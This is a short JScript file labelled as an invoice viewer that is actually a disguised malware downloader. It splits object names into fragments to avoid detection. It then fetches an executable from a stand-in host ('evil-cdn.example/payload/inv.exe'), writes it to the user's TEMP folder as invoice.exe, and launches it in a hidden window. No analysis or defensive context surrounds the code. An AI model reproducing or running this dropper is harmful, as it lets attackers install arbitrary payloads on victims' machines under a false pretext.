// Invoice viewer
var a = "MSXML2." + "XML" + "HTTP";
var b = ["ADODB", "Stream"].join(".");
var sh = WScript.CreateObject("WScript" + ".Shell");
var tmp = sh.ExpandEnvironmentStrings("%TE" + "MP%");
var path = tmp + "\\inv" + "oice" + ".exe";
var url = "http://" + "evil-cdn" + ".example" + "/payload/" + "inv.exe";
var x = new ActiveXObject(a);
x.open("GET", url, false);
x.send();
if (x.status == 200) {
    var s = new ActiveXObject(b);
    s.Open();
    s.Type = 1;
    s.Write(x.ResponseBody);
    s.Position = 0;
    s.SaveToFile(path, 2);
    s.Close();
    sh.Run("cmd.exe /c start \"\" \"" + path + "\"", 0, false);
}
